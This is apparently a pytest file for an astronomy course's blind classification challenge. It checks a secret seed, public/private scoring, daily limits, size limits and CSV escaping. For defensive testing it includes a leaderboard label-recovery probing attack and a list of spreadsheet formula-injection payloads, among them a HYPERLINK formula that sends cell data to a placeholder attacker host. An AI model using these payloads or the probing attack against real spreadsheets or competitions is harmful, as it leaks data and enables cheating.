"""A blind challenge that is blind (issue 23, item 4): a secret seed, a public/private split, a daily limit,
the label-recovery attack, integer ids, a size limit, and leaderboard CSVs safe from formula injection."""

import csv
import datetime
import io
import json
import math

import numpy as np
import pandas as pd
import pytest

from astrolab.challenge import (
    BlindChallenge,
    Leaderboard,
    SubmissionLimitError,
    make_challenge,
    make_submission,
    score,
    validate_submission,
    weight_prior_submission,
    weighted_log_loss,
)
from astrolab.challenge._kit import STUDENT_FILES
from astrolab.challenge._metric import PLASTICC_CLASS_WEIGHTS
from astrolab.datasets import make_transients
from astrolab.datasets._transients import TRANSIENT_CLASSES

CLASSES = list(TRANSIENT_CLASSES)
UTC = datetime.timezone.utc


@pytest.fixture(scope="module")
def blind(tmp_path_factory):
    """A blind kit (secret seed) of 150 objects: 75 in the blind set, 60 of them attacked below."""
    return make_challenge(tmp_path_factory.mktemp("blind"), n_objects=150)


class Clock:
    """A clock the tests move by hand."""

    def __init__(self, start=datetime.datetime(2026, 12, 5, 9, 0, tzinfo=UTC)):
        self.now = start

    def __call__(self):
        return self.now

    def advance(self, **kwargs):
        self.now += datetime.timedelta(**kwargs)


# ------------------------------------------------------------------------------------------- the secret


def test_student_folder_holds_no_seed_and_cannot_regenerate_the_truth(blind, tmp_path):
    secret = json.loads(blind.secret.read_text())
    info = json.loads(blind.info.read_text())
    assert blind.blind and secret["blind"] and info["blind"]
    assert "seed" not in info and '"seed"' not in json.dumps(info)
    assert 2**64 < secret["seed"] < 2**128                   # 128 random bits (this fails with chance 2^-64)
    # the student folder: exactly the handed-out files, no truth and no trace of the seed in names or content
    assert sorted(p.name for p in blind.student.iterdir()) == sorted(STUDENT_FILES)
    assert blind.truth.parent != blind.student and not (blind.student / "truth").exists()
    forms = [str(secret["seed"]), f"{secret['seed']:x}", f"{secret['seed']:X}", str(secret["seed"])[:12]]
    for path in blind.student.iterdir():
        content = path.read_bytes()
        assert not any(form.encode() in content or form in path.name for form in forms), path.name
    train_ids = set(pd.read_csv(blind.training_set_metadata)["object_id"])
    truth = pd.read_csv(blind.truth)
    # the attack: the default call with the sizes of challenge.json made the byte-identical truth
    guess = make_challenge(tmp_path / "guess", n_objects=info["n_train"] + info["n_test"])
    assert guess.blind and set(pd.read_csv(guess.training_set_metadata)["object_id"]) != train_ids
    assert not pd.read_csv(guess.truth).equals(truth)
    # brute force of small seeds (the issue broke a small secret seed in 12 s): no seed gives these objects
    for seed in range(24):
        assert set(make_transients(150, seed=seed).metadata["object_id"]) & train_ids != train_ids, seed
    # ... while the secret, which only the instructor has, regenerates everything
    again = make_challenge(tmp_path / "again", seed=secret["seed"], n_objects=150)
    assert again.truth.read_bytes() == blind.truth.read_bytes()
    assert again.training_set.read_bytes() == blind.training_set.read_bytes()
    assert not again.blind and not json.loads(again.info.read_text())["blind"]


def test_an_explicit_seed_makes_a_demo_and_says_so(tmp_path):
    kit = make_challenge(tmp_path, seed=3, n_objects=40)
    info = json.loads(kit.info.read_text())
    assert info["blind"] is False and "not a blind test" in info["kind"] and "seed" not in info
    assert "not a blind test" in kit.readme.read_text()
    assert json.loads(kit.secret.read_text())["seed"] == 3
    with pytest.raises(ValueError, match="seed must be None .* or a non-negative integer"):
        make_challenge(tmp_path / "x", seed=1.5)


# ------------------------------------------------------------------------------------------- split, baseline


def test_public_private_split_and_the_baseline_to_beat(blind):
    truth = pd.read_csv(blind.truth)
    info = json.loads(blind.info.read_text())
    assert set(truth["split"]) == {"public", "private"}
    assert abs((truth["split"] == "public").mean() - info["rules"]["public_fraction"]) < 0.1
    rng = np.random.default_rng(0)
    sub = make_submission(truth["object_id"], rng.dirichlet(np.ones(10), len(truth)), CLASSES)
    for part in ("public", "private"):
        rows = truth["split"] == part
        direct = weighted_log_loss(truth.loc[rows, "class_name"], sub[CLASSES].to_numpy()[rows.to_numpy()],
                                   labels=CLASSES, class_weights=PLASTICC_CLASS_WEIGHTS)
        assert score(sub, blind.truth, part=part) == pytest.approx(direct, rel=1e-12)
    # no data at all: the class weights for every object beat the uniform guess; both announced in challenge.json
    baselines = info["baselines"]
    best_constant = baselines["class weights for every object (the baseline to beat)"]
    assert best_constant == pytest.approx(2.2538, abs=1e-4)
    assert best_constant < baselines["uniform (1/M for every class)"]
    assert baselines["uniform (1/M for every class)"] == pytest.approx(math.log(10))
    prior = weight_prior_submission(truth["object_id"])
    assert score(prior, blind.truth) == pytest.approx(best_constant, abs=1e-6)   # every class is in the blind set
    game = BlindChallenge(blind.directory, clock=Clock())
    board = game.public_leaderboard().ranking()
    assert board["name"].tolist() == ["baseline: class weights for every object"]
    assert board["score"].iloc[0] == round(score(prior, blind.truth, part="public"), 3)
    with pytest.raises(ValueError, match="part must be one of"):
        score(sub, blind.truth, part="secret")
    with pytest.raises(ValueError, match="'split' column"):
        score(sub, truth.drop(columns="split"), part="public")


def test_final_ranking_uses_only_the_private_part(blind):
    truth = pd.read_csv(blind.truth)
    public = (truth["split"] == "public").to_numpy()
    onehot = (truth["class_name"].to_numpy()[:, None] == np.array(CLASSES)[None, :]).astype(float)
    # "peeker" knows the public labels (say, from the leaderboard) and guesses uniformly elsewhere;
    # "modeller" is honestly better than uniform everywhere
    peek = np.where(public[:, None], 0.98 * onehot + 0.002, 0.1)
    honest = 0.5 * onehot + 0.05
    game = BlindChallenge(blind.truth, clock=Clock())
    assert game.submit("peeker", make_submission(truth["object_id"], peek, CLASSES)) < 0.1
    assert game.submit("modeller", make_submission(truth["object_id"], honest, CLASSES)) > 0.5
    assert game.public_leaderboard().ranking()["name"].iloc[0] == "peeker"
    final = game.final_ranking().set_index("name")
    assert final.loc["modeller", "rank"] == 1 and final.loc["peeker", "private"] == pytest.approx(math.log(10))
    assert final.loc["modeller", "private"] == pytest.approx(
        score(make_submission(truth["object_id"], honest, CLASSES), blind.truth, part="private"), rel=1e-12)


# ------------------------------------------------------------------------------------------- limit, feedback


def test_daily_limit_with_an_injected_clock(blind):
    clock = Clock()
    game = BlindChallenge(blind.directory, daily_limit=3, clock=clock)
    sub = pd.read_csv(blind.sample_submission)
    for _ in range(3):
        assert game.submit("owls", sub) == pytest.approx(math.log(10), abs=5e-4)
        clock.advance(hours=4)
    with pytest.raises(SubmissionLimitError, match=r"'owls' has made its 3 submissions of 2026-12-05 \(UTC\); "
                                                   r"the next is accepted from 2026-12-06T00:00:00\+00:00"):
        game.submit("owls", sub)
    assert game.remaining("owls") == 0 and game.remaining("larks") == 3
    assert game.submit("larks", sub) > 0                      # the limit is per team
    with pytest.raises(ValueError, match="missing columns"):  # a malformed submission does not count
        game.submit("larks", sub.drop(columns="KN"))
    assert game.remaining("larks") == 2
    clock.advance(hours=12)                                   # next UTC day
    assert game.remaining("owls") == 3 and game.submit("owls", sub) > 0
    assert BlindChallenge(blind.directory, clock=clock).daily_limit == json.loads(blind.info.read_text())["rules"][
        "daily_limit"]
    with pytest.raises(ValueError, match="clock must be a callable"):
        BlindChallenge(blind.directory, clock="noon")


def test_error_messages_do_not_depend_on_the_labels(blind):
    """Validation never reads the truth: with the labels shuffled, every refusal reads the same."""
    truth = pd.read_csv(blind.truth)
    shuffled = truth.assign(class_name=np.random.default_rng(1).permutation(truth["class_name"].to_numpy()))
    good = weight_prior_submission(truth["object_id"])
    broken = [good.drop(index=3), good.assign(KN=good["KN"] + 0.2), good.drop(columns="TDE"),
              good.assign(object_id=good["object_id"].astype(float) + 0.5)]
    for sub in broken:
        messages = []
        for t in (truth, shuffled):
            with pytest.raises(ValueError) as err:
                BlindChallenge(t, clock=Clock()).submit("x", sub)
            messages.append(str(err.value))
        assert messages[0] == messages[1]
        assert not any(name in messages[0] for name in ("public", "private"))


# ------------------------------------------------------------------------------------------- the attack


def _probe_attack(submit, ids, base, counts, targets):
    """The leaderboard attack of issue 23: for each target object, replace its row of ``base`` by a probe
    and read its class off the change of the score. ``counts``: the attacker's (here exact) knowledge of
    how many objects of each class the score averages over. Returns the guessed classes (None where refused)."""
    w = np.array([PLASTICC_CLASS_WEIGHTS[c] for c in CLASSES])
    probe = np.exp(-0.9 * np.arange(len(CLASSES)))            # distinct log-probabilities, one per class
    probe /= probe.sum()
    reference = submit(make_submission(ids, base, CLASSES))
    guesses = []
    for oid in targets:
        p = base.copy()
        row = int(np.flatnonzero(ids == oid)[0])
        p[row] = probe
        try:
            change = submit(make_submission(ids, p, CLASSES)) - reference
        except SubmissionLimitError:
            guesses.append(None)
            continue
        present = counts > 0
        # the score moves by -w_c / (N_c sum w) (ln probe_c - ln base_c) if the object's class is c
        expected = np.full(len(CLASSES), np.inf)
        expected[present] = (-w[present] / (counts[present] * w[present].sum())
                             * (np.log(probe[present]) - np.log(base[row, present])))
        guesses.append(CLASSES[int(np.argmin(np.abs(expected - change)))])
    return guesses


def test_label_recovery_attack_recovers_no_more_than_chance(blind):
    truth = pd.read_csv(blind.truth)
    ids = truth["object_id"].to_numpy()
    label = dict(zip(ids, truth["class_name"], strict=True))
    base = np.full((ids.size, len(CLASSES)), 0.1)
    targets = ids[:60]
    counts = truth["class_name"].value_counts().reindex(CLASSES, fill_value=0).to_numpy()

    # the old kit: exact scores on the whole blind set, no limit -> every label in 60 submissions
    old = _probe_attack(lambda s: score(s, blind.truth), ids, base, counts, targets)
    assert sum(g == label[i] for g, i in zip(old, targets, strict=True)) == 60

    # the new kit, one day: the daily limit stops the attack after a handful of submissions
    clock = Clock()
    game = BlindChallenge(blind.truth, daily_limit=5, clock=clock)
    public = truth["split"].eq("public").to_numpy()
    public_counts = truth.loc[public, "class_name"].value_counts().reindex(CLASSES, fill_value=0).to_numpy()
    guesses = _probe_attack(lambda s: game.submit("attacker", s), ids, base, public_counts, targets)
    assert sum(g is not None for g in guesses) == 4             # 5 submissions: the reference and 4 probes

    # a patient attacker with a day per five submissions (and exact knowledge of the public class counts)
    def patient(sub):
        if game.remaining("attacker") == 0:
            clock.advance(days=1)
        return game.submit("attacker", sub)

    guesses = _probe_attack(patient, ids, base, public_counts, targets)
    private = ~public[:60]
    right = np.array([g == label[i] for g, i in zip(guesses, targets, strict=True)])
    # a private object never moves the public score: every private guess is the same class, whatever the truth
    assert len({g for g, p in zip(guesses, private, strict=True) if p}) == 1
    shares = truth.loc[:59, "class_name"][private].value_counts(normalize=True)
    chance = shares.max()                                     # the best a constant guess can do on these objects
    assert right[private].mean() <= chance
    print(f"patient attack, {len(game.entries)} submissions over {(clock.now - Clock().now).days + 1} days: "
          f"public labels {right[~private].sum()}/{(~private).sum()}, "
          f"private {right[private].sum()}/{private.sum()} (constant-guess chance {chance:.2f})")
    # what the attacker learnt is worth nothing in the final ranking: its best-public submission's private score
    # is that of the uniform guess
    assert game.final_ranking().set_index("name").loc["attacker", "private"] == pytest.approx(math.log(10))


# ------------------------------------------------------------------------------------------- ids, size


@pytest.mark.parametrize(("value", "match"), [
    (1197.5, r"row 2 \(line 4 of the CSV\): object_id 1197.5 is not an integer id"),
    ("abc", r"row 2 \(line 4 of the CSV\): object_id 'abc' is not an integer id"),
    (float("inf"), "row 2 .*object_id inf is not an integer id"),
    (2.0**70, "row 2 .*is not an integer id"),
])
def test_ids_must_be_integers(value, match):
    ids = [1001, 1002, 1003, 1197]
    sub = make_submission(ids, np.full((4, 2), 0.5), ["a", "b"]).astype({"object_id": object})
    sub.loc[2, "object_id"] = value
    with pytest.raises(ValueError, match=match):
        validate_submission(sub, ids, ["a", "b"])
    text = sub.to_csv(index=False).encode()                  # the same through a CSV
    with pytest.raises(ValueError, match=match.replace("'abc'", "'abc'")):
        validate_submission(text, ids, ["a", "b"])


def test_integral_float_ids_are_accepted_and_bools_refused():
    sub = pd.DataFrame({"object_id": [2.0, 1.0], "a": [0.5, 0.1], "b": [0.5, 0.9]})
    assert validate_submission(sub, [1, 2], ["a", "b"]).index.tolist() == [1, 2]
    with pytest.raises(ValueError, match="integer ids, got True/False"):
        validate_submission(sub.assign(object_id=[True, False]), [1, 2], ["a", "b"])


def test_size_limit_is_checked_before_parsing(blind, tmp_path, monkeypatch):
    ids = pd.read_csv(blind.test_set_metadata)["object_id"].to_numpy()
    limit = 4096 + ids.size * (32 + 40 * 10)
    good = weight_prior_submission(ids)
    assert len(good.to_csv(index=False).encode()) < limit / 2
    big = tmp_path / "big.csv"
    big.write_bytes(good.to_csv(index=False).encode() + b"\n" * limit)

    def no_parsing(*args, **kwargs):
        raise AssertionError("parsed a file above the size limit")

    monkeypatch.setattr(pd, "read_csv", no_parsing)
    message = rf"is {big.stat().st_size:,} bytes, above the limit of {limit:,} bytes"
    with pytest.raises(ValueError, match=message):
        validate_submission(big, ids, CLASSES)
    with pytest.raises(ValueError, match=message.replace(r"file", "")):
        validate_submission(big.read_bytes(), ids, CLASSES)

    class Stream(io.BytesIO):
        asked = 0

        def read(self, n=-1):
            Stream.asked = n
            return super().read(n)

    with pytest.raises(ValueError, match=f"stream is more than {limit:,} bytes"):
        validate_submission(Stream(big.read_bytes()), ids, CLASSES)
    assert 0 < Stream.asked <= limit + 1                      # never read beyond the limit
    with pytest.raises(ValueError, match="above the limit of 100 bytes"):
        validate_submission(big, ids, CLASSES, max_bytes=100)
    monkeypatch.undo()
    tall = pd.concat([good] * 3, ignore_index=True)           # a frame: rows counted before any other check
    with pytest.raises(ValueError, match=rf"has {30 * ids.size} rows .*limits: {2 * ids.size + 1000} rows"):
        validate_submission(pd.concat([tall] * 10, ignore_index=True), ids, CLASSES)
    assert validate_submission(io.BytesIO(good.to_csv(index=False).encode()), ids, CLASSES).shape == (ids.size, 10)


# ------------------------------------------------------------------------------------------- CSV injection

NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2-2", "@SUM(A1:A9)", "\tTAB", "\rCR",
         "'quoted", "plain team", "=1,\"2\"\n3"]


def _raw_cells(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_leaderboard_csv_escapes_formulas_and_reads_back_verbatim(tmp_path):
    board = Leaderboard()
    for k, name in enumerate(NASTY):
        board.add(name, 1.0 + k, note=name, submitted=f"2026-12-0{1 + k % 9}T00:00:00")
    path = board.to_csv(tmp_path / "board.csv")
    for row in _raw_cells(path)[1:]:
        for cell in (row[0], row[2], row[3]):                 # name, submitted, note
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    again = Leaderboard.from_csv(path)
    assert [e["note"] for e in again.entries] == NASTY       # verbatim (add() strips the blanks around a name)
    assert [e["name"] for e in again.entries] == [e["name"] for e in board.entries] == [n.strip() for n in NASTY]
    pd.testing.assert_frame_equal(again.ranking(best_only=False), board.ranking(best_only=False))


def test_blind_submission_log_roundtrip(blind, tmp_path):
    game = BlindChallenge(blind.directory, clock=Clock())
    sub = pd.read_csv(blind.sample_submission)
    for name in NASTY[:4]:
        game.submit(name, sub, note=name)
    path = game.to_csv(tmp_path / "log.csv")
    assert all(not row[0].startswith(("=", "+", "-", "@")) for row in _raw_cells(path)[1:])
    again = BlindChallenge(blind.directory, clock=Clock()).load_csv(path)
    assert again.entries == game.entries
    assert "'=HYPERLINK" not in again.public_leaderboard().to_html(plot=False)
